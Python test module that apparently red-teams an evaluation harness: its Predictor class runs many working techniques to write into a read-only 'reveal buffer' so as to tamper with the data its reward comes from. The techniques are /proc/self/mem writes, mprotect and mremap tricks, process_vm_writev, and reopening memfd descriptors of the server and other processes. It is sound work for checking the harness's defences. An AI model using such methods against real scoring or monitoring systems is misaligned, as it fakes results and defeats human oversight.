"""Tries to change rows that were revealed, by every way to write into the reveal buffer (A-09).

Each variant has a run of its own: some end it (SIGSEGV). A variant tells loot only where memory changed that the parent reads too.
Against it: seals, mode 0400, a read-only description, a mapping that may never be made writable (I-41, I-42).
Incident: OpenEnv #1200, rewards from memory that an agent may write.
"""

import ctypes
import fcntl
import mmap
import os
import re
import struct

import numpy as np
from numpy.lib.stride_tricks import as_strided
from toolbox import TARGETS, attempt, checked, libc, number, syscall

PLANTED = -777_777.25
BYTES = struct.pack("<f", PLANTED)
PAGE = 4_096
READ_WRITE = 3
SHARED, PRIVATE, FIXED, ANONYMOUS = 1, 2, 0x10, 0x20
F_ADD_SEALS, F_GET_SEALS = 1033, 1034
PUNCH, KEEP_SIZE, ZERO_RANGE, COLLAPSE = 2, 1, 16, 8
libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p


class Vector(ctypes.Structure):
    _fields_ = (("start", ctypes.c_void_p), ("bytes", ctypes.c_size_t))


class Forged:
    """Memory that claims to be writable."""

    def __init__(self, address):
        self.__array_interface__ = {"data": (address, False), "shape": (1,), "typestr": "<f4", "version": 3}


def address_of(view):
    return view._ladder_table.__array_interface__["data"][0]


def page_of(view):
    return address_of(view) // PAGE * PAGE


def has_changed(view):
    """Whether the first revealed cell, read past every copy, is the planted value."""
    return f"the first row reads {PLANTED}" if ctypes.string_at(address_of(view), 4) == BYTES else None


def put(view, address=None):
    """Write four bytes to an address: a segmentation fault where the page is read-only."""
    ctypes.memmove(ctypes.c_void_p(address or address_of(view)), BYTES, 4)
    return has_changed(view)


def setflags(view):
    table = view._ladder_table
    table.setflags(write=True)
    table[0, 0] = PLANTED
    return has_changed(view)


def flags_of_base(view):
    array = view._ladder_table
    while isinstance(array.base, np.ndarray):
        array = array.base
    array.flags.writeable = True
    array[0, 0] = PLANTED
    return has_changed(view)


def table_set(view):
    view._ladder_table[0, 0] = PLANTED
    return has_changed(view)


def frame_iloc(view):
    view.ladder.iloc[0, 0] = PLANTED
    return has_changed(view)


def frame_column(view):
    frame = view.ladder
    frame["bid"] = PLANTED
    frame["bid"].to_numpy()[:] = PLANTED
    return has_changed(view)


def frame_values(view):
    view.ladder.to_numpy()[0, 0] = PLANTED
    return has_changed(view)


def frame_blocks(view):
    for block in view.ladder._mgr.blocks:
        block.values.setflags(write=True)
        block.values[:] = PLANTED
    return has_changed(view)


def into_out(view):
    np.add(view._ladder_table, 1, out=view._ladder_table)
    return has_changed(view)


def path_set(view):
    view.y.setflags(write=True)
    view.y[0] = PLANTED
    return f"the path reads {view.y[0]}"


def events_set(view):
    view._event_table.setflags(write=True)
    view._event_table[0, 0] = PLANTED
    return f"the events read {view._event_table[0, 0]}"


def strided(view):
    as_strided(view._ladder_table, (1,), (4,), writeable=True)[0] = PLANTED
    return has_changed(view)


def buffer_view(view):
    memoryview(view._ladder_table).cast("B")[0:4] = BYTES
    return has_changed(view)


def from_buffer(view):
    (ctypes.c_char * 4).from_buffer(view._ladder_table)[0:4] = BYTES
    return has_changed(view)


def interface(view):
    np.asarray(Forged(address_of(view)))[0] = PLANTED
    return has_changed(view)


def from_address(view):
    ctypes.c_float.from_address(address_of(view)).value = PLANTED
    return has_changed(view)


def memmove(view):
    return put(view)


def memset(view):
    ctypes.memset(address_of(view), 0x41, 4)
    return "the first row was overwritten"


def mprotect(view):
    checked(libc.mprotect(ctypes.c_void_p(page_of(view)), ctypes.c_size_t(PAGE), READ_WRITE))
    return put(view)


def mprotect_raw(view):
    syscall(number(10, 226), page_of(view), PAGE, READ_WRITE)
    return put(view)


def pkey_mprotect(view):
    syscall(number(329, 288), page_of(view), PAGE, READ_WRITE, -1)
    return put(view)


def mprotect_exec(view):
    """With the flag that once made read imply other rights."""
    syscall(number(135, 92), 0x0400000)
    checked(libc.mprotect(ctypes.c_void_p(page_of(view)), ctypes.c_size_t(PAGE), 7))
    return put(view)


def mremap_twice(view):
    """A second mapping of the same shared pages, made writable."""
    again = checked(libc.mremap(ctypes.c_void_p(page_of(view)), ctypes.c_size_t(0), ctypes.c_size_t(PAGE), 1))
    checked(libc.mprotect(ctypes.c_void_p(again), ctypes.c_size_t(PAGE), READ_WRITE))
    return put(view, again + address_of(view) % PAGE)


def remap_file_pages(view):
    syscall(number(216, 234), page_of(view), PAGE, 0, 1, 0)
    return has_changed(view)


def madvise(advice):
    def act(view):
        before = ctypes.string_at(address_of(view), 4)
        checked(libc.madvise(ctypes.c_void_p(page_of(view)), ctypes.c_size_t(PAGE), advice))
        after = ctypes.string_at(address_of(view), 4)
        return f"the first row became {after.hex()}" if after != before else None

    return act


def cover(view):
    """Memory of its own over the buffer: nobody else sees that, so it gains nothing."""
    old = ctypes.string_at(page_of(view), PAGE)
    checked(libc.mmap(ctypes.c_void_p(page_of(view)), ctypes.c_size_t(PAGE), READ_WRITE, PRIVATE | FIXED | ANONYMOUS, -1, ctypes.c_long(0)))
    ctypes.memmove(ctypes.c_void_p(page_of(view)), old, PAGE)
    put(view)


def self_memory(view):
    """The kernel's own view of this process: it writes past page protections of private memory."""
    fd = checked(libc.open(b"/proc/self/mem", os.O_RDWR))
    os.pwrite(fd, BYTES, address_of(view))
    return has_changed(view)


def self_memory_raw(view):
    fd = syscall(number(257, 56), -100, b"/proc/thread-self/mem", os.O_RDWR, 0)
    syscall(number(18, 68), fd, BYTES, 4, address_of(view))
    return has_changed(view)


def write_to_self(view):
    local = Vector(ctypes.cast(ctypes.c_char_p(BYTES), ctypes.c_void_p), 4)
    remote = Vector(address_of(view), 4)
    syscall(number(311, 271), os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return has_changed(view)


def read_into(view):
    """The kernel writes where it is told to read into."""
    fd = checked(libc.open(os.fsencode(__file__), os.O_RDONLY))
    before = ctypes.string_at(address_of(view), 4)
    syscall(number(0, 63), fd, ctypes.c_void_p(address_of(view)), 4)
    return "a read wrote the first row" if ctypes.string_at(address_of(view), 4) != before else None


def random_into(view):
    syscall(number(318, 278), ctypes.c_void_p(address_of(view)), 4, 0)
    return "the kernel wrote random bytes into the first row"


def map_files(view):
    folder, fd = "/proc/self/map_files", -1
    for name in names_in(folder):
        start, end = (int(word, 16) for word in name.split("-"))
        if start <= address_of(view) < end:
            fd = checked(libc.open(f"{folder}/{name}".encode(), os.O_RDWR))
    if fd < 0:
        raise FileNotFoundError("no link to the mapping is to be found")
    return write_through(fd, view)


def names_in(folder):
    """The names in a folder, past the hook; none where it cannot be read."""
    try:
        fd = syscall(number(257, 56), -100, folder.encode(), os.O_RDONLY | os.O_DIRECTORY, 0)
    except OSError:
        return []
    try:
        return [name for name in os.listdir(fd) if name not in (".", "..")]
    finally:
        os.close(fd)


def buffers():
    """Paths of the reveal buffer that can be found: descriptors of its own that were left open, and other processes'."""
    found = []
    for fd in range(3, 64):
        try:
            fcntl.fcntl(fd, F_GET_SEALS)
            if os.fstat(fd).st_nlink:
                continue  # a file in memory that has a name
            found.append(f"/proc/self/fd/{fd}")
        except OSError:
            continue
    for pid in ("self", TARGETS["server_pid"], TARGETS["zygote_pid"], os.getppid()):
        for name in names_in(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{name}"
            try:
                if re.search("memfd:reveal", os.readlink(path)):
                    found.append(path)
            except OSError:
                continue
    if not found:
        raise FileNotFoundError("no descriptor of the buffer is to be found")
    return found


def opened(is_changed):
    """A writable description of the buffer, its mode changed first if asked. Raises OSError."""
    for path in buffers():
        try:
            if is_changed:
                checked(libc.chmod(path.encode(), 0o600))
            return checked(libc.open(path.encode(), os.O_RDWR))
        except OSError as error:
            last = error
    raise last


def write_through(fd, view):
    os.pwrite(fd, BYTES, 0)
    return has_changed(view) or f"wrote {len(BYTES)} bytes"


def reopen(view):
    return write_through(opened(False), view)


def fchmod_reopen(view):
    return write_through(opened(True), view)


def own_chmod_reopen(view):
    for path in buffers():
        fd = checked(libc.open(path.encode(), os.O_RDONLY))
        checked(libc.fchmod(fd, 0o600))
        return write_through(checked(libc.open(b"/proc/self/fd/%d" % fd, os.O_RDWR)), view)


def map_shared(view):
    memory = mmap.mmap(opened(True), PAGE, SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    memory[:4] = BYTES
    return has_changed(view) or "the shared mapping took a write"


def map_read_then_write(view):
    fd = opened(True)
    address = checked(libc.mmap(None, ctypes.c_size_t(PAGE), 1, SHARED, fd, ctypes.c_long(0)))
    checked(libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(PAGE), READ_WRITE))
    return put(view, address)


def pwrite_raw(view):
    syscall(number(18, 68), opened(True), BYTES, 4, 0)
    return has_changed(view) or "wrote 4 bytes"


def pwritev(view):
    return f"wrote {os.pwritev(opened(True), [BYTES], 0)} bytes"


def sendfile_into(view):
    with open(__file__, "rb") as file:
        return f"wrote {os.sendfile(opened(True), file.fileno(), 0, 4)} bytes"


def splice_into(view):
    ends = os.pipe()
    os.write(ends[1], BYTES)
    return f"wrote {os.splice(ends[0], opened(True), 4, offset_dst=0)} bytes"


def ftruncate(view):
    fd = opened(True)
    checked(libc.ftruncate(fd, ctypes.c_long(0)))
    return f"the buffer has {os.fstat(fd).st_size} bytes"


def grow(view):
    fd = opened(True)
    checked(libc.ftruncate(fd, ctypes.c_long(os.fstat(fd).st_size + PAGE)))
    return f"the buffer has {os.fstat(fd).st_size} bytes"


def fallocate(mode):
    def act(view):
        fd = opened(True)
        before = os.fstat(fd), ctypes.string_at(page_of(view), PAGE)
        syscall(number(285, 47), fd, mode, 0, PAGE)
        after = os.fstat(fd), ctypes.string_at(page_of(view), PAGE)
        is_same = before[1] == after[1] and before[0].st_size == after[0].st_size
        return None if is_same else f"fallocate {mode} changed the buffer"

    return act


def added_seals(view):
    """SEAL_WRITE would stop the parent: the one seal that was left out."""
    for path in buffers():
        fcntl.fcntl(opened(True), F_ADD_SEALS, 0x08)
        return f"{path} is sealed against its own parent"


def each_of(*acts, **named):
    """All of several acts that do not end the process; loot where one changed something, else what each was told."""

    def act(view):
        told, has_won = [], False
        for name, one in [*((one.__name__, one) for one in acts), *named.items()]:
            try:
                loot = one(view)
            except Exception as error:
                told.append(f"{name}: {error}")
            else:
                told.append(f"{name} CHANGED: {loot}" if loot else f"{name}: nothing")
                has_won = has_won or loot is not None
        if has_won:
            return " ; ".join(told)
        raise PermissionError(" ; ".join(told))

    return act


# One run each: those that may end it stand alone.
ACTS = {
    "arrays": each_of(table_set, frame_iloc, frame_column, frame_values, into_out, strided, buffer_view, from_buffer),
    "protection": each_of(mprotect, mprotect_raw, pkey_mprotect, mprotect_exec, mremap_twice, remap_file_pages),
    "advice": each_of(remove=madvise(9), dontneed=madvise(4), free=madvise(8)),
    "kernel": each_of(self_memory, self_memory_raw, write_to_self, read_into, random_into, map_files),
    "descriptors": each_of(
        reopen,
        fchmod_reopen,
        own_chmod_reopen,
        map_shared,
        map_read_then_write,
        pwrite_raw,
        pwritev,
        sendfile_into,
        splice_into,
        added_seals,
    ),
    "sizes": each_of(
        ftruncate,
        grow,
        allocate=fallocate(0),
        punch_hole=fallocate(PUNCH | KEEP_SIZE),
        zero_range=fallocate(ZERO_RANGE | KEEP_SIZE),
        collapse_range=fallocate(COLLAPSE),
    ),
    "cover": cover,
    "setflags": setflags,
    "flags_of_base": flags_of_base,
    "frame_blocks": frame_blocks,
    "path_set": path_set,
    "events_set": events_set,
    "interface": interface,
    "from_address": from_address,
    "memmove": memmove,
    "memset": memset,
}


class Predictor:
    def predict(self, view):
        if view.anchor == 1:  # rows are there, and more are to come
            for name, act in ACTS.items():
                attempt(name, act, view)
        return 0.5
